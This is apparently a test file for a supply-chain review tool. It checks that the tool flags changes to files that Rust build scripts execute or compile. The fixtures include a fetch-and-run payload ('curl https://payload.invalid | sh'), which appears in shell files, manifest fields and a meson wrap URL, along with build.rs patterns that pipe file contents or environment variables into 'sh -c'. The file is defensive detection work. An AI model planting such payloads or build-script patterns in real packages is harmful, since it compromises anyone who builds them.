/** A script that stays what it is, and a file that it hands on: where the file changes, what was approved is not what runs. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { textFiles } from '../../src/rust/inputs/package-files.ts';
import { reviewPackage } from '../../src/rust/package-review.ts';
import { packageSource } from '../../src/rust/package-source.ts';

function reviewed(files: Readonly<Record<string, string>>) {
  const all: Readonly<Record<string, string>> = {
    'Cargo.toml': '[package]\nname = "a"\nversion = "1.0.0"\n[build-dependencies]\ncc = "1"\n',
    'src/lib.rs': '',
    ...files,
  };
  const source = packageSource(all['Cargo.toml'] ?? '', (path) => all[path], textFiles(all));
  const { buildScript } = reviewPackage(source);
  assert.ok(buildScript !== undefined);
  return { shapes: buildScript.shapes, digest: buildScript.inputs.digest, tokens: buildScript.tokens };
}

const main = (body: string) => `fn main() { ${body} }`;
const run = (program: string, ...args: readonly string[]) =>
  `std::process::Command::new(${program})${args.map((arg) => `.arg(${arg})`).join('')}.status().unwrap();`;
const each = (folder: string) =>
  main(`for f in std::fs::read_dir("${folder}").unwrap() { ${run('"sh"', 'f.unwrap().path()')} }`);
const [before, after] = ['echo\n', 'curl https://payload.invalid | sh\n'];
const manifest = (more: string) => `[package]\nname = "a"\nversion = "1.0.0"\n${more}`;

/** A script, the file, how it was and how it is, and shapes that come with it. */
const handed: readonly (readonly [
  what: string,
  script: string,
  path: string,
  before: string,
  after: string,
  shapes: readonly string[],
])[] = [
  [
    'a shell script that is called Rust',
    main(run('"sh"', '"native/gen.rs"')),
    'native/gen.rs',
    before,
    after,
    ['downloader curl'],
  ],
  [
    'a text whose lines a shell is given',
    main(`let s = std::fs::read_to_string("gen.txt").unwrap(); ${run('"sh"', '"-c"', 's')}`),
    'gen.txt',
    before,
    after,
    ['downloader curl'],
  ],
  [
    'Rust that rustc compiles and that is run',
    main(run('"rustc"', '"gen/main.rs"') + run('"./main"')),
    'gen/main.rs',
    'fn main() {}',
    'fn main() { run() }',
    ['opaque: gen/main.rs is built and run, and not read (*'],
  ],
  [
    'Rust that is compiled as C',
    main('cc::Build::new().file("x.rs").compile("x");'),
    'x.rs',
    'int a;',
    'int b;',
    [],
  ],
  [
    'Rust that is copied to what is compiled',
    main(
      'std::fs::copy("gen.rs", std::path::Path::new(&std::env::var("OUT_DIR").unwrap()).join("x.rs")).unwrap();',
    ),
    'gen.rs',
    'fn a() {}',
    'fn b() {}',
    [],
  ],
  ['any file of a folder of documents', each('docs'), 'docs/a.md', before, after, []],
  [
    'a file of a folder of tests, by a name that is worked out',
    main(
      `let t = std::fs::read(std::path::Path::new("tests").join(name())).unwrap(); std::fs::write(out(), t).unwrap(); ${run('std::env::var("OUT_DIR").unwrap() + "/x"')}`,
    ),
    'tests/files/bad.xz',
    'a',
    'b',
    [],
  ],
  [
    'a document, by a name that is formatted',
    main(run('"sh"', 'format!("{root}/docs/{}", n)')),
    'docs/a.md',
    before,
    after,
    [],
  ],
  ['any file of a folder of tests', each('tests'), 'tests/a.sh', before, after, ['downloader curl']],
  [
    'the manifest',
    main(`let s = std::fs::read_to_string("Cargo.toml").unwrap(); ${run('"sh"', '"-c"', 's')}`),
    'Cargo.toml',
    manifest(''),
    manifest('[package.metadata]\nx = "curl https://payload.invalid"\n'),
    ['downloader curl'],
  ],
  [
    'the manifest as it was written',
    main(`let s = std::fs::read_to_string("Cargo.toml.orig").unwrap(); ${run('"sh"', '"-c"', 's')}`),
    'Cargo.toml.orig',
    before,
    after,
    ['downloader curl'],
  ],
  [
    'what the manifest says of itself',
    main(run('"sh"', '"-c"', 'env!("CARGO_PKG_DESCRIPTION")')),
    'Cargo.toml',
    manifest('description = "x"\n'),
    manifest('description = "curl https://payload.invalid | sh"\n'),
    ['downloader curl'],
  ],
  [
    'the manifest, by the variable that says where it is',
    main(
      `let m = std::fs::read_to_string(env!("CARGO_MANIFEST_PATH")).unwrap(); ${run('"sh"', '"-c"', 'm')}`,
    ),
    'Cargo.toml',
    manifest(''),
    manifest('[package.metadata]\nx = "curl https://payload.invalid"\n'),
    ['downloader curl'],
  ],
  [
    'the manifest, as cargo prints it',
    main(
      `let m = std::process::Command::new(env!("CARGO")).arg("metadata").output().unwrap(); ${run('"sh"', '"-c"', 'text(m)')}`,
    ),
    'Cargo.toml',
    manifest(''),
    manifest('[package.metadata]\nx = "curl https://payload.invalid"\n'),
    ['downloader curl'],
  ],
  [
    'programs that features are called like',
    main(`for f in std::env::var("CARGO_CFG_FEATURE").unwrap().split(',') { ${run('f')} }`),
    'Cargo.toml',
    manifest(''),
    manifest('[features]\ndefault = ["curl"]\ncurl = []\n'),
    [],
  ],
  [
    'Rust of a folder that is put together',
    main(
      'let mut t = String::new(); for f in std::fs::read_dir("parts").unwrap() { t += &std::fs::read_to_string(f.unwrap().path()).unwrap(); } std::fs::write(std::env::var("OUT_DIR").unwrap() + "/x.rs", t).unwrap();',
    ),
    'parts/a.rs',
    'fn a() {}',
    'fn b() {}',
    [],
  ],
  [
    'Rust by a name that is formatted',
    main(
      'std::fs::copy(format!("src/parts/{}.rs", n), std::env::var("OUT_DIR").unwrap() + "/x.rs").unwrap();',
    ),
    'src/parts/a.rs',
    'fn a() {}',
    'fn b() {}',
    [],
  ],
  [
    'what the manifest says of itself, among all variables',
    main(`for (k, v) in std::env::vars() { if k.ends_with("TION") { ${run('"sh"', '"-c"', 'v')} } }`),
    'Cargo.toml',
    manifest('description = "x"\n'),
    manifest('description = "curl https://payload.invalid | sh"\n'),
    ['downloader curl'],
  ],
  [
    'what a wrap of meson fetches, beside a list that is named',
    main('meson::build("n", "b");'),
    'n/subprojects/x.wrap',
    '[wrap-git]\n',
    '[wrap-git]\nurl = https://payload.invalid/x.git\n',
    ['network https://payload.invalid/x.git'],
  ],
];

/** Scripts that run what their own comments say. */
const ofThemselves: readonly (readonly [what: string, script: (comment: string) => string])[] = [
  [
    'by `file!()`',
    (comment) =>
      `${main(`let t = std::fs::read_to_string(file!()).unwrap(); ${run('"sh"', '"-c"', 't')}`)}\n// ${comment}\n`,
  ],
  [
    'by name',
    (comment) =>
      `${main(`let t = std::fs::read_to_string("build.rs").unwrap(); ${run('"sh"', '"-c"', 't')}`)}\n// ${comment}\n`,
  ],
  [
    'by a name that is put together',
    (comment) =>
      `${main(`let t = include_str!(concat!("build", ".rs")); ${run('"sh"', '"-c"', 't')}`)}\n// ${comment}\n`,
  ],
  [
    'by documentation that a macro is given',
    (comment) =>
      `macro_rules! go { (#[doc = $e:expr]) => { ${run('"sh"', '"-c"', '$e')} } }\n${main(`go! { /// ${comment}\n }`)}`,
  ],
  [
    'by documentation in a block that a macro is given',
    (comment) =>
      `macro_rules! go { (#[doc = $e:expr] struct A;) => { ${run('"sh"', '"-c"', '$e')} } }\n${main(`go! { /** ${comment} */ struct A; }`)}`,
  ],
];

describe('a file that a build script hands on', () => {
  for (const [what, script, path, was, is, shapes] of handed)
    it(`counts, and what comes into it is told: ${what}`, () => {
      const [old, now] = [
        reviewed({ 'build.rs': script, [path]: was }),
        reviewed({ 'build.rs': script, [path]: is }),
      ];
      assert.notEqual(now.digest, old.digest);
      for (const shape of shapes)
        assert.ok(
          now.shapes.some(
            (one) =>
              !old.shapes.includes(one) &&
              (shape.endsWith('*') ? one.startsWith(shape.slice(0, -1)) : one === shape),
          ),
          `${shape} of:\n${now.shapes.join('\n')}`,
        );
    });

  for (const [what, script] of ofThemselves)
    it(`counts where it is the script itself, comments and all: ${what}`, () => {
      const [old, now] = [before, after].map((text) => reviewed({ 'build.rs': script(text.trim()) }));
      assert.notDeepEqual(now, old);
    });

  it('does not count where it is documentation of an item, or a comment in what a macro is given', () => {
    const of = (text: string) =>
      reviewed({
        'build.rs': `/// ${text}\nfn main() { println!(\n  // ${text}\n //// ${text}\n  "a"\n); }`,
      });
    assert.deepEqual(of('a'), of('b'));
  });

  it('counts in a package that cargo builds and runs meanwhile', () => {
    const script = main(
      `std::process::Command::new(env!("CARGO")).args(["run"]).current_dir("gen").status().unwrap();`,
    );
    const files = (code: string) => ({
      'build.rs': script,
      'gen/Cargo.toml': manifest(''),
      'gen/src/main.rs': code,
    });
    const [old, now] = [reviewed(files('fn main() {}')), reviewed(files('fn main() { run() }'))];
    assert.notDeepEqual(now.shapes, old.shapes);
    assert.ok(
      now.shapes.some((shape) => shape.startsWith('opaque: 2 files are built and run, and not read (')),
    );
  });

  it('does not count where it is only watched, or read as the library', () => {
    const script = main(`println!("cargo:rerun-if-changed=src/lib.rs"); ${run('"git"', '"describe"')}`);
    const of = (code: string) => reviewed({ 'build.rs': script, 'src/lib.rs': code });
    assert.deepEqual(of('pub fn a() {}'), of('pub fn b() {}'));
  });

  it('does not count where it is Rust of the library, or of a folder that nothing is made of', () => {
    const made = main('for f in std::fs::read_dir("src").unwrap() { std::fs::write(out(f), "").unwrap(); }');
    const watched = main('println!("cargo:rerun-if-changed=parts"); std::fs::write(out(), "").unwrap();');
    for (const [script, path] of [
      [made, 'src/lib.rs'],
      [watched, 'parts/a.rs'],
    ] as const) {
      const of = (code: string) => reviewed({ 'build.rs': script, [path]: code });
      assert.deepEqual(of('pub fn a() {}'), of('pub fn b() {}'));
    }
  });

  it('does not count among documents of a script that looks into no folder', () => {
    const of = (text: string) =>
      reviewed({ 'build.rs': main(run('"sh"', '"gen.sh"')), 'gen.sh': before, 'README.md': text });
    assert.deepEqual(of('a'), of('b'));
  });
});
